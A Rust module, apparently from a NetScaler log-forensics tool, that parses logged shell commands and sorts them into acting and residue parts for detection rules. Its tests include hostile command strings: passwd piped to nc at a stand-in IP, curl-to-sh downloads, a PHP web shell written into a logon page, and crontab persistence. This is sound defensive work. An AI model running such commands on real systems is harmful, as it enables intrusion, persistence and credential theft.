//! What a shell command does, for line rules with `commands = "acting" | "residue" | "run"`.
//!
//! A record is located as a command: the text of `shell_command="…"` in bash.log, sh.log and
//! notice.log, of `CMD (…)` in the cron log, a crontab line after its schedule (and, in a system
//! crontab, its user), or a script line (rc.netscaler). It is split into simple commands at `;`,
//! `&&`, `||`, `|`, `&` and line ends outside quotes, with `$( )` and backquotes as commands of
//! their own. A simple command is **residue** when it only holds data: variable and array
//! assignments, `declare`/`export`, tests (`[`, `[[`, `test`), `echo`/`printf`, a `for` list, and
//! commands that only search, list or read (`grep`, `ls`, `find` without `-exec`/`-delete`, `cat`,
//! `head`, ...), as long as it writes no file (no `>` into a file) and its output is not piped
//! into a command that acts. Everything else **acts**: it downloads, runs, writes or changes
//! something.
//!
//! This module only reads bytes it is given; it never runs anything. Work is bounded: records are
//! at most 64 KiB (the line reader's cap), substitutions nest at most `MAX_DEPTH` deep.

pub(crate) use crate::rules::View;
use std::ops::Range;
use std::sync::OnceLock;

/// How deep `$( )` and backquotes nest before the rest is taken as plain text.
const MAX_DEPTH: usize = 16;
/// How deep `sh -c "…"` is followed for the run view.
const MAX_INLINE: usize = 2;

/// The text a rule's patterns see for `record` in `view`. `system_crontab`: crontab lines carry
/// a user field (`/etc/crontab`). A record that holds no command (a comment, a log line that is
/// not a command) gives an empty text.
pub(crate) fn view(record: &[u8], view: View, system_crontab: bool) -> Vec<u8> {
    let Some(at) = locate(record, system_crontab) else {
        return Vec::new();
    };
    let cmd = &record[at.clone()];
    let simples = analyse(cmd);
    match view {
        View::Acting | View::Residue => {
            // Blanked with NUL, never a space: blanking removes matches, it never makes one.
            let mut out = record.to_vec();
            for s in simples
                .iter()
                .filter(|s| s.acting != (view == View::Acting))
            {
                for r in &s.parts {
                    for b in &mut out[at.start + r.start..at.start + r.end] {
                        if *b != b'\n' {
                            *b = 0;
                        }
                    }
                }
            }
            out
        }
        View::Run => {
            let mut out = Vec::new();
            run_lines(cmd, &simples, 0, &mut out);
            out
        }
    }
}

/// The command of a record (see the module documentation), as bytes: the run view of a record
/// depends on nothing else, so callers can keep its result per command.
pub(crate) fn command(record: &[u8], system_crontab: bool) -> Option<&[u8]> {
    locate(record, system_crontab).map(|r| &record[r])
}

/// True when a line opens a syslog record (it is a log line, not a script line).
fn is_log_line(line: &[u8]) -> bool {
    static RE: OnceLock<regex::bytes::Regex> = OnceLock::new();
    RE.get_or_init(|| {
        regex::bytes::Regex::new(
            r"(?-u)^(?:<[0-9]{1,3}>)?(?:[A-Z][a-z]{2} [ 0-9][0-9] [0-9]{2}:[0-9]{2}:[0-9]{2} |<[A-Za-z0-9]+\.[A-Za-z]+> |[0-9]{2}/[0-9]{2}/[0-9]{4}:[0-9]{2}:[0-9]{2}:[0-9]{2} )",
        )
        .expect("static regex")
    })
    .is_match(line)
}

/// A crontab schedule at the start of a line: `@reboot` or five time fields.
fn schedule() -> &'static regex::bytes::Regex {
    static RE: OnceLock<regex::bytes::Regex> = OnceLock::new();
    RE.get_or_init(|| {
        let name = "(?i:jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec|mon|tue|wed|thu|fri|sat|sun)";
        let field = format!(r"(?:[0-9*][0-9*/,\-]*|{name}(?:[,\-]{name})*)");
        regex::bytes::Regex::new(&format!(
            r"(?-u)^[ \t]*(?:@(?:reboot|yearly|annually|monthly|weekly|daily|midnight|hourly)|(?:{field}[ \t]+){{4}}{field})[ \t]+"
        ))
        .expect("static regex")
    })
}

/// Where the command of a record is.
fn locate(record: &[u8], system_crontab: bool) -> Option<Range<usize>> {
    const SHELL: &[u8] = b"shell_command=\"";
    if let Some(i) = memchr::memmem::find(record, SHELL) {
        let start = i + SHELL.len();
        let end = memchr::memrchr(b'"', record)
            .filter(|&e| e >= start)
            .unwrap_or(record.len());
        return Some(start..end);
    }
    if let Some(i) = memchr::memmem::find(record, b") CMD (") {
        let start = i + 7;
        let end = memchr::memrchr(b')', record)
            .filter(|&e| e >= start)
            .unwrap_or(record.len());
        return Some(start..end);
    }
    if is_log_line(record) {
        return None;
    }
    let lead = record
        .iter()
        .take_while(|b| b.is_ascii_whitespace())
        .count();
    if record.get(lead).is_none_or(|&b| b == b'#') {
        return None;
    }
    let Some(m) = schedule().find(record) else {
        return Some(lead..record.len());
    };
    let mut start = m.end();
    if system_crontab {
        let user = record[start..]
            .iter()
            .take_while(|b| !b.is_ascii_whitespace())
            .count();
        start += user;
        start += record[start..]
            .iter()
            .take_while(|b| b.is_ascii_whitespace())
            .count();
    }
    Some(start..record.len())
}

/// One simple command: its byte ranges in the command (a `$( )` inside cuts it in two) and
/// whether it acts.
#[derive(Debug, Default)]
struct Simple {
    parts: Vec<Range<usize>>,
    /// The simple command this one's output is piped into.
    pipe_to: Option<usize>,
    acting: bool,
}

#[derive(Clone, Copy, PartialEq, Eq)]
enum Quote {
    None,
    Single,
    Double,
}

/// A `$( )` or backquote being read, or the top level.
struct Frame {
    quote: Quote,
    /// `)` or a backquote; 0 at the top level.
    closer: u8,
    current: usize,
    start: usize,
}

/// Splits a command into simple commands and judges each.
fn analyse(cmd: &[u8]) -> Vec<Simple> {
    let mut out = split(cmd);
    let words: Vec<Vec<Word>> = out.iter().map(|s| words(&text_of(cmd, s))).collect();
    for (s, w) in out.iter_mut().zip(&words) {
        s.acting = acts(w);
    }
    // A reader piped into a command that acts feeds it: it acts too. Right to left, so a
    // chain `cat | base64 -d | sh` is settled in one pass.
    for i in (0..out.len()).rev() {
        if !out[i].acting && out[i].pipe_to.is_some_and(|j| out[j].acting) {
            out[i].acting = true;
        }
    }
    // An assignment whose variable a command that acts uses (`x=/tmp/bsd; chmod +x $x; $x`)
    // is part of that action.
    let used: Vec<Vec<u8>> = out
        .iter()
        .filter(|s| s.acting)
        .map(|s| text_of(cmd, s))
        .collect();
    for (s, w) in out.iter_mut().zip(&words) {
        if !s.acting && program(w).is_none() {
            s.acting = w.iter().filter_map(|x| assigned_name(&x.text)).any(|name| {
                used.iter().any(|u| {
                    let plain = format!("${name}");
                    let braced = format!("${{{name}");
                    memchr::memmem::find(u, plain.as_bytes()).is_some()
                        || memchr::memmem::find(u, braced.as_bytes()).is_some()
                })
            });
        }
    }
    out
}

/// The variable an assignment word sets (`x=...`, `x[3]=...`, `x+=...`).
fn assigned_name(w: &str) -> Option<&str> {
    if !is_assignment(w) {
        return None;
    }
    let name = w[..w.find('=')?].trim_end_matches('+');
    Some(name.split('[').next().unwrap_or(name))
}

fn text_of(cmd: &[u8], s: &Simple) -> Vec<u8> {
    let mut t = Vec::new();
    for r in &s.parts {
        if !t.is_empty() {
            t.push(b' ');
        }
        t.extend_from_slice(&cmd[r.clone()]);
    }
    t
}

/// Splits at separators outside quotes; `$( )` and backquotes become simple commands of their
/// own, and the command around them continues after them.
fn split(cmd: &[u8]) -> Vec<Simple> {
    let mut out = vec![Simple::default()];
    let mut stack = vec![Frame {
        quote: Quote::None,
        closer: 0,
        current: 0,
        start: 0,
    }];
    let mut i = 0;
    while i < cmd.len() {
        let c = cmd[i];
        let next = cmd.get(i + 1).copied();
        let depth = stack.len();
        let f = stack.last_mut().expect("the top frame is never popped");
        match f.quote {
            Quote::Single => {
                if c == b'\'' {
                    f.quote = Quote::None;
                }
                i += 1;
                continue;
            }
            _ if c == b'\\' => {
                i += 2;
                continue;
            }
            Quote::Double if c == b'"' => {
                f.quote = Quote::None;
                i += 1;
                continue;
            }
            _ => {}
        }
        let opens = (c == b'$' && next == Some(b'(')) || (c == b'`' && f.closer != b'`');
        if opens && depth < MAX_DEPTH {
            let skip = if c == b'$' { 2 } else { 1 };
            let (cur, start) = (f.current, f.start);
            out[cur].parts.push(start..i);
            out.push(Simple::default());
            stack.push(Frame {
                quote: Quote::None,
                closer: if c == b'$' { b')' } else { b'`' },
                current: out.len() - 1,
                start: i + skip,
            });
            i += skip;
            continue;
        }
        if f.quote == Quote::Double {
            i += 1;
            continue;
        }
        if c == f.closer && f.closer != 0 {
            let (cur, start) = (f.current, f.start);
            out[cur].parts.push(start..i);
            stack.pop();
            if let Some(outer) = stack.last_mut() {
                outer.start = i + 1;
            }
            i += 1;
            continue;
        }
        i = step(cmd, i, &mut out, stack.last_mut().expect("a frame"));
    }
    for f in stack.iter().rev() {
        out[f.current].parts.push(f.start..cmd.len());
    }
    for s in &mut out {
        s.parts.retain(|r| !r.is_empty());
    }
    out
}

/// One unquoted byte at `i` outside a substitution; returns where to continue.
fn step(cmd: &[u8], i: usize, out: &mut Vec<Simple>, f: &mut Frame) -> usize {
    let c = cmd[i];
    let next = cmd.get(i + 1).copied();
    let prev = i.checked_sub(1).map(|p| cmd[p]);
    match c {
        b'\'' => f.quote = Quote::Single,
        b'"' => f.quote = Quote::Double,
        // An array literal `name=( … )` belongs to its assignment.
        b'(' if prev == Some(b'=') => return skip_array(cmd, i),
        b'#' if prev.is_none_or(|p| p.is_ascii_whitespace() || p == b';') => {
            let end = memchr::memchr(b'\n', &cmd[i..]).map_or(cmd.len(), |n| i + n);
            out[f.current].parts.push(f.start..i);
            f.start = end;
            return end;
        }
        b'&' if next == Some(b'>') || matches!(prev, Some(b'>' | b'<')) => {}
        b';' | b'\n' | b'&' | b'|' | b'(' | b')' => {
            let pipe = c == b'|' && next != Some(b'|') && prev != Some(b'|');
            let len = if matches!((c, next), (b'&', Some(b'&')) | (b'|', Some(b'|'))) {
                2
            } else {
                1
            };
            out[f.current].parts.push(f.start..i);
            out.push(Simple::default());
            let new = out.len() - 1;
            if pipe {
                out[f.current].pipe_to = Some(new);
            }
            f.current = new;
            f.start = i + len;
            return i + len;
        }
        _ => {}
    }
    i + 1
}

/// The end of an array literal that opens at `i` (its closing parenthesis, quotes respected).
fn skip_array(cmd: &[u8], i: usize) -> usize {
    let mut q = Quote::None;
    let mut j = i + 1;
    while j < cmd.len() {
        match (q, cmd[j]) {
            (Quote::Single, b'\'') | (Quote::Double, b'"') => q = Quote::None,
            (Quote::None, b'\'') => q = Quote::Single,
            (Quote::None, b'"') => q = Quote::Double,
            (Quote::None | Quote::Double, b'\\') => j += 1,
            (Quote::None, b')') => return j + 1,
            _ => {}
        }
        j += 1;
    }
    cmd.len()
}

/// A word of a simple command, quotes removed; redirections and their targets are marked.
#[derive(Debug, Clone)]
struct Word {
    text: String,
    redirect: bool,
    /// For a redirection: it sends output into a file (not /dev/null, not another descriptor).
    writes: bool,
}

fn redirect_op() -> &'static regex::Regex {
    static RE: OnceLock<regex::Regex> = OnceLock::new();
    RE.get_or_init(|| {
        regex::Regex::new(r"^(?:[0-9]*(?:>>?|>\||>&|<<?<?|<>)|&>>?)").expect("static regex")
    })
}

/// Splits a simple command into words, quotes removed, redirections marked.
fn words(text: &[u8]) -> Vec<Word> {
    let mut raw: Vec<(String, bool)> = Vec::new(); // (text, began unquoted)
    let mut cur = Vec::new();
    let (mut in_word, mut unquoted_start, mut q) = (false, false, Quote::None);
    let mut i = 0;
    while i < text.len() {
        let c = text[i];
        match (q, c) {
            (Quote::None, b' ' | b'\t' | b'\n' | b'\r') => {
                if in_word {
                    raw.push((String::from_utf8_lossy(&cur).into_owned(), unquoted_start));
                    cur.clear();
                    in_word = false;
                }
            }
            (Quote::Single, b'\'') | (Quote::Double, b'"') => q = Quote::None,
            (Quote::None | Quote::Double, b'\\') => {
                if let Some(&n) = text.get(i + 1) {
                    cur.push(n);
                }
                i += 1;
            }
            (Quote::None, b'\'' | b'"') => {
                if !in_word {
                    in_word = true;
                    unquoted_start = false;
                }
                q = if c == b'\'' {
                    Quote::Single
                } else {
                    Quote::Double
                };
            }
            _ => {
                if !in_word {
                    in_word = true;
                    unquoted_start = true;
                }
                cur.push(c);
            }
        }
        i += 1;
    }
    if in_word {
        raw.push((String::from_utf8_lossy(&cur).into_owned(), unquoted_start));
    }
    mark_redirects(raw)
}

fn mark_redirects(raw: Vec<(String, bool)>) -> Vec<Word> {
    let mut out: Vec<Word> = Vec::with_capacity(raw.len());
    let mut target_of: Option<bool> = None; // the next word is a target; does the op write?
    for (t, unquoted) in raw {
        if let Some(out_op) = target_of.take() {
            let writes = out_op && is_file_target(&t);
            out.push(Word {
                text: t,
                redirect: true,
                writes,
            });
            continue;
        }
        let op = unquoted.then(|| redirect_op().find(&t)).flatten();
        match op {
            Some(m) => {
                let out_op = m.as_str().contains('>') && !m.as_str().ends_with(">&");
                let rest = &t[m.end()..];
                let writes = !rest.is_empty() && out_op && is_file_target(rest);
                if rest.is_empty() {
                    target_of = Some(out_op);
                }
                out.push(Word {
                    text: t,
                    redirect: true,
                    writes,
                });
            }
            None => out.push(Word {
                text: t,
                redirect: false,
                writes: false,
            }),
        }
    }
    out
}

fn is_file_target(t: &str) -> bool {
    !(t == "/dev/null" || t == "-" || t.starts_with('&') || t.bytes().all(|b| b.is_ascii_digit()))
}

const KEYWORDS: &[&str] = &[
    "if", "then", "else", "elif", "fi", "do", "done", "while", "until", "!", "{", "}", "esac",
    "function", "time",
];
/// Commands that run the command after them (with their own options first).
const WRAPPERS: &[&str] = &[
    "nohup", "exec", "command", "builtin", "nice", "env", "sudo", "setsid", "daemon", "timeout",
    "stdbuf", "doas",
];
/// Options of wrappers that take an argument.
const WRAPPER_ARGS: &[&str] = &[
    "-n", "-u", "-g", "-p", "-P", "-o", "-t", "-C", "-D", "-k", "-s",
];
/// Programs that run the script named after their options.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "ksh", "zsh", "csh", "tcsh", "dash", "perl", "php", "ruby", "node", "tclsh",
    "lua", "source", ".",
];
/// Commands that only print, test, declare, search, list or read what they are given.
const HOLD_DATA: &[&str] = &[
    "echo",
    "printf",
    ":",
    "true",
    "false",
    "test",
    "[",
    "[[",
    "declare",
    "typeset",
    "local",
    "readonly",
    "export",
    "unset",
    "alias",
    "cd",
    "pushd",
    "popd",
    "grep",
    "egrep",
    "fgrep",
    "zgrep",
    "zegrep",
    "zfgrep",
    "bzgrep",
    "xzgrep",
    "rg",
    "ag",
    "ack",
    "ls",
    "ll",
    "dir",
    "find",
    "locate",
    "which",
    "whereis",
    "type",
    "file",
    "stat",
    "wc",
    "head",
    "tail",
    "cat",
    "zcat",
    "gzcat",
    "bzcat",
    "xzcat",
    "zmore",
    "zless",
    "less",
    "more",
    "view",
    "strings",
    "hexdump",
    "xxd",
    "od",
    "cmp",
    "diff",
    "md5",
    "md5sum",
    "sha1",
    "sha1sum",
    "sha256",
    "sha256sum",
    "sha512",
    "sha512sum",
    "cksum",
    "readlink",
    "realpath",
    "basename",
    "dirname",
    "du",
    "df",
    "tree",
    "history",
    "man",
    "printenv",
    "for",
    "select",
    "case",
];
const FIND_ACTIONS: &[&str] = &[
    "-exec", "-execdir", "-ok", "-okdir", "-delete", "-fprint", "-fprint0", "-fprintf", "-fls",
];

fn basename(w: &str) -> &str {
    w.rsplit('/').next().unwrap_or(w)
}

fn is_assignment(w: &str) -> bool {
    let Some(eq) = w.find('=') else {
        return false;
    };
    let name = w[..eq].trim_end_matches('+');
    let name = match name.find('[') {
        Some(b) if name.ends_with(']') => &name[..b],
        _ => name,
    };
    !name.is_empty()
        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        && !name.as_bytes()[0].is_ascii_digit()
}

fn is_interpreter(w: &str) -> bool {
    let b = basename(w);
    INTERPRETERS.contains(&b)
        || b.strip_prefix("python")
            .is_some_and(|v| v.bytes().all(|c| c.is_ascii_digit() || c == b'.'))
}

/// Index of the program word: after keywords, assignments and wrappers (with their options).
fn program(words: &[Word]) -> Option<usize> {
    let mut i = 0;
    let mut after_wrapper = false;
    while i < words.len() {
        let w = &words[i];
        let t = w.text.as_str();
        if is_assignment(t) && t.contains("=(") && !t.ends_with(')') {
            // An array literal: its elements are data, up to the closing parenthesis.
            i += 1;
            while i < words.len() && !words[i].text.ends_with(')') {
                i += 1;
            }
            i += 1;
            continue;
        }
        if w.redirect || KEYWORDS.contains(&t) || is_assignment(t) {
            i += 1;
            continue;
        }
        if after_wrapper && t.starts_with('-') {
            i += if WRAPPER_ARGS.contains(&t) { 2 } else { 1 };
            continue;
        }
        if WRAPPERS.contains(&basename(t)) {
            after_wrapper = true;
            if basename(t) == "timeout" {
                i += 1;
            }
            i += 1;
            continue;
        }
        return Some(i);
    }
    None
}

/// Does a simple command act (download, run, write, change)?
fn acts(words: &[Word]) -> bool {
    let writes = words.iter().any(|w| w.writes);
    let Some(p) = program(words) else {
        return writes;
    };
    let verb = basename(&words[p].text);
    let args = &words[p + 1..];
    let holds_data = match verb {
        "find" => !args.iter().any(|a| FIND_ACTIONS.contains(&a.text.as_str())),
        "crontab" => args.iter().any(|a| a.text == "-l"),
        v => HOLD_DATA.contains(&v),
    };
    !holds_data || writes
}

/// Appends one line per acting simple command, beginning with the program it runs.
fn run_lines(cmd: &[u8], simples: &[Simple], depth: usize, out: &mut Vec<u8>) {
    // A relative program (`./run`) runs from the folder a `cd` before it went to.
    let mut cwd: Option<String> = None;
    for s in simples {
        let mut w = words(&text_of(cmd, s));
        let Some(mut p) = program(&w) else {
            continue;
        };
        if w[p].text == "cd" {
            cwd = w
                .get(p + 1)
                .map(|d| d.text.trim_end_matches('/').to_owned());
            continue;
        }
        if !s.acting {
            continue;
        }
        if let Some(dir) = cwd.as_deref().filter(|d| d.starts_with('/')) {
            for x in w.iter_mut().skip(p).filter(|x| !x.redirect) {
                if let Some(rel) = x.text.strip_prefix("./") {
                    x.text = format!("{dir}/{rel}");
                }
            }
        }
        if is_interpreter(&w[p].text) {
            let shell = basename(&w[p].text).ends_with("sh");
            let mut j = p + 1;
            let mut inline = false;
            while j < w.len() && !w[j].redirect && w[j].text.starts_with('-') {
                if w[j].text == "-c" && shell {
                    // sh -c "…": the commands of the string are what runs.
                    if let Some(code) = w.get(j + 1).filter(|_| depth < MAX_INLINE) {
                        let inner = code.text.as_bytes();
                        run_lines(inner, &analyse(inner), depth + 1, out);
                    }
                    inline = true;
                    break;
                }
                if matches!(w[j].text.as_str(), "-c" | "-e" | "-r" | "-E") {
                    inline = true; // perl -e, python -c: the interpreter runs its own code
                    break;
                }
                j += 1;
            }
            if inline && shell {
                continue;
            }
            if !inline && j < w.len() && !w[j].redirect {
                p = j;
            }
        }
        let line: Vec<&str> = w[p..]
            .iter()
            .filter(|x| !x.redirect)
            .map(|x| x.text.as_str())
            .collect();
        out.extend_from_slice(line.join(" ").as_bytes());
        out.push(b'\n');
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn acting(record: &str) -> String {
        String::from_utf8(view(record.as_bytes(), View::Acting, false))
            .unwrap()
            .replace('\0', " ")
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    }

    fn run(record: &str, system: bool) -> String {
        String::from_utf8(view(record.as_bytes(), View::Run, system)).unwrap()
    }

    const H: &str = "Jan 25 11:41:38 <local7.notice> ns bash[1]: root on /dev/pts/0 shell_command=";

    #[test]
    fn assignments_tests_and_echo_are_residue() {
        for cmd in [
            r#""fs_paths[7]="/tmp/bsd"""#,
            r#""IOC+=("/tmp/bsd")""#,
            r#""NET+=("216.41.162.172")""#,
            r#""declare -a known=( '/var/tmp/the' 'eval($_POST' )""#,
            r#""notrobin_paths=( "/var/nstmp/.nscache/httpd" "/tmp/.init/httpd" )""#,
            r#""for f in "${IOC[@]}"; do [ -e "$f" ] && echo "HIT $f"; done""#,
            r#""[ -e /tmp/bsd ] && echo found /tmp/bsd""#,
            r#""grep -rlF -e 'eval($_POST' /var/netscaler""#,
            r#""ls -la /netscaler/ns_gui/vpn/""#,
            r#""cat /flash/nsconfig/ns.conf | grep vserver""#,
            r#""zgrep -hF -e '185.178.45.221' /var/log/bash.log* 2>/dev/null""#,
        ] {
            let a = acting(&format!("{H}{cmd}"));
            assert!(
                !a.contains("/tmp/bsd") && !a.contains("eval") && !a.contains("216.41"),
                "{cmd} acts: {a}"
            );
        }
    }

    #[test]
    fn downloads_runs_and_writes_act() {
        for (cmd, kept) in [
            (
                "\"/usr/bin/ftp -o /tmp/bsd ftp://anonymous:guest@66.42.98.220/bsd\"",
                "66.42.98.220",
            ),
            ("\"chmod +x /tmp/un; /tmp/un\"", "/tmp/un"),
            (
                "\"cat /flash/nsconfig/ns.conf >> /var/tmp/all.txt\"",
                "cat /flash/nsconfig/ns.conf >>",
            ),
            (
                "\"echo '<?=`curl 203.0.113.9/a|sh`;' > /var/netscaler/logon/a.php\"",
                "a.php",
            ),
            (
                "\"id | tee /netscaler/portal/templates/x.xml\"",
                "tee /netscaler/portal",
            ),
            (
                "\"echo '* * * * * /var/nstmp/.nscache/httpd' | crontab -\"",
                ".nscache",
            ),
            (
                "\"cat /etc/passwd | nc 203.0.113.9 4444\"",
                "cat /etc/passwd",
            ),
            (
                "\"echo $(curl -s http://203.0.113.9/x | sh)\"",
                "203.0.113.9",
            ),
            ("\"pwd;pwd;pwd;pwd;pwd;\"", "pwd;pwd;pwd;pwd;pwd;"),
            ("\"x=/tmp/bsd; chmod +x $x; $x\"", "x=/tmp/bsd"),
        ] {
            let a = acting(&format!("{H}{cmd}"));
            assert!(a.contains(kept), "{cmd}: {a}");
        }
    }

    #[test]
    fn the_run_view_names_the_program_run() {
        let cron = "Jan 28 02:15:01 <cron.info> ns /usr/sbin/cron[4]: (root) CMD (/bin/sh /var/nstmp/nsroot/backup.sh > /var/tmp/backup.log 2>&1)";
        assert_eq!(run(cron, false), "/var/nstmp/nsroot/backup.sh\n");
        assert_eq!(
            run(
                "15 2 * * * nohup sh -c '/var/tmp/.x/run -d' >/dev/null",
                false
            ),
            "/var/tmp/.x/run -d\n"
        );
        assert_eq!(
            run("49 0-23 * * * root nslog.sh dozip", true),
            "nslog.sh dozip\n"
        );
        assert_eq!(
            run("@reboot curl -s http://203.0.113.9/a | sh", false),
            "curl -s http://203.0.113.9/a\nsh\n"
        );
        assert_eq!(run("# 15 2 * * * /tmp/x", false), "");
        assert_eq!(
            run("*/5 * * * * cd /var/tmp/.x && ./run -q", false),
            "/var/tmp/.x/run -q\n"
        );
        assert_eq!(
            run("nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0", false),
            "nsapimgr_wr.sh -ys skip_systemaccess_policyeval=0\n"
        );
        assert_eq!(
            run("/var/python/bin/python3 -c \"import os\"", false),
            "/var/python/bin/python3 -c import os\n"
        );
        assert_eq!(
            run("cp /var/tmp/.k/x.php /netscaler/ns_gui/vpn/", false),
            "cp /var/tmp/.k/x.php /netscaler/ns_gui/vpn/\n"
        );
    }

    #[test]
    fn log_lines_that_are_not_commands_give_nothing() {
        let l = b"Jan 25 09:59:20 ns-gw01 newsyslog[56168]: logfile turned over due to size>100K";
        assert!(view(l, View::Acting, false).is_empty());
        assert!(view(l, View::Run, false).is_empty());
    }

    #[test]
    fn residue_is_the_complement() {
        let r = String::from_utf8(view(
            format!("{H}\"IOC+=(\"/tmp/bsd\"); /tmp/un\"").as_bytes(),
            View::Residue,
            false,
        ))
        .unwrap();
        assert!(r.contains("/tmp/bsd") && !r.contains("/tmp/un"), "{r}");
    }

    #[test]
    fn nesting_and_length_are_bounded() {
        let deep = format!("{H}\"{}x{}\"", "$(".repeat(1000), ")".repeat(1000));
        let _ = view(deep.as_bytes(), View::Acting, false);
        let wide = format!("{H}\"{}\"", "a;".repeat(30_000));
        assert!(!view(wide.as_bytes(), View::Run, false).is_empty());
    }
}
